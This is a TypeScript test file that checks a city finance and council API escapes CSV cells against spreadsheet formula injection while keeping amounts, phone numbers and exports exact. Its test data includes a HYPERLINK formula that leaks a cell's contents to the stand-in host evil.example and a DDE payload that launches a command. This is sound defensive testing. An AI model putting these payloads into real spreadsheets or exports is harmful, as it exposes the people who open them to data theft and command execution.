/** Formula injection in CSV: texts stay texts in every spreadsheet, while numbers and exports stay exact. */
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeFinance } from "../../src/cli/io/write-finance.ts";
import { storedFinance } from "../../src/finance/exchange/export.ts";
import type { FinanceData } from "../../src/finance/model/model.ts";
import { councilOf, emptyCity, MONEY, party, type SmallCity } from "../support/small-city.ts";

const FORMULA = `=HYPERLINK("http://evil.example/"&A1,"click")`;
const CALL = "@SUM(1+1)*cmd|' /C calc'!A0";
const EVIL: FinanceData = {
  ...MONEY,
  departemente: [{ key: "20", bezeichnung: FORMULA, kurzname: CALL }],
  konten: [
    { id: 1, kontoNr: "3010 00 000", bezeichnung: `+${FORMULA}`, institution: "2000" },
    { id: 2, kontoNr: "3020 00 000", bezeichnung: "Löhne", institution: "2000" },
  ],
  betraege: [
    { konto: 1, jahr: 2024, betragsTyp: "RECHNUNG", betragInRappen: -12_345, begruendung: `-2+3${CALL}` },
    { konto: 1, jahr: 2024, betragsTyp: "NACHTRAGSKREDIT24_BESCHLUSS", betragInRappen: -99, begruendung: "\t=1" },
    { konto: 2, jahr: 2024, betragsTyp: "RECHNUNG", betragInRappen: 500_000 },
  ],
  sachkonten: [{ sachkonto: "30", bezeichnung: FORMULA }],
};

let city: SmallCity;
beforeAll(async () => {
  city = await emptyCity();
  await city.load(EVIL, councilOf([party(1, FORMULA, CALL, false), party(2, "+41 44 412 31 10", "-5", false)]));
});
afterAll(() => city.close());

async function cells(url: string): Promise<string[]> {
  const { statusCode, body } = await city.app.inject({ url, headers: { "api-key": "key" } });
  expect(statusCode, url).toBe(200);
  return (parse(body) as string[][]).slice(1).flat();
}

const COUNCIL = "/api/partei/searchdetails?format=csv&q=";

describe("CSV", () => {
  it.each([
    ["/finance/v1/departemente?format=csv", FORMULA],
    ["/finance/v1/institutionen?format=csv", FORMULA],
    ["/finance/v1/konten?format=csv", `+${FORMULA}`],
    ["/finance/v1/betragsreihen?kontoId=1&jahre=alle&format=csv", `-2+3${CALL}`],
    ["/finance/v1/betragsreihen?kontoId=1&jahre=alle&format=csv", "\t=1"],
    ["/finance/v1/rechnungsbuch?jahr=2024&orgKey=2000&format=csv", `+${FORMULA}`],
    ["/finance/v1/sachkonten?format=csv", FORMULA],
    ["/finance/v1/sachkonto_codes.csv", FORMULA],
    [`${COUNCIL}seq%3E0`, CALL],
    ["/finanzen?format=csv", FORMULA],
  ])("%s has no cell that a spreadsheet would execute, and exact numbers", async (url, text) => {
    const found = await cells(url);
    expect(found).toContain(`'${text}`);
    expect(found.filter((cell) => /^[=+\-@\t\r\n]/.test(cell) && !/^[+-][\d .]+$/.test(cell))).toEqual([]);
  });

  it("has no formula in snippets either", async () => {
    const [, , , snippet] = await cells("/api/partei/search?format=csv&q=hyperlink");
    expect(snippet).toMatch(/^'=<EM>HYPERLINK/);
  });

  it("does not change amounts, telephone numbers and other formats", async () => {
    expect(await cells("/finance/v1/betragsreihen?kontoId=1&jahre=alle&format=csv")).toContain("-12345");
    expect(await cells(`${COUNCIL}seq%3E0`)).toEqual(expect.arrayContaining(["+41 44 412 31 10", "-5", `'${FORMULA}`]));
    const json = await city.app.inject({ url: "/finance/v1/departemente", headers: { "api-key": "key" } });
    expect(json.json().value[0]).toMatchObject({ bezeichnung: FORMULA, kurzname: CALL });
    const record = (await city.app.inject("/api/partei/searchdetails?format=json&q=seq%3D1")).json().hits[0].record;
    expect(record).toMatchObject({ Name: FORMULA, Kuerzel: CALL });
  });

  it("is exact in an export, which can be imported again", async () => {
    const folder = mkdtempSync(join(tmpdir(), "rathaus-export-"));
    await city.store.read((snapshot) => writeFinance(folder, storedFinance(snapshot), () => {}));
    const rows = parse(readFileSync(join(folder, "departemente.csv"), "utf8"), { columns: true });
    rmSync(folder, { recursive: true });
    expect(rows).toEqual([{ bezeichnung: FORMULA, key: "20", kurzname: CALL }]);
  });
});
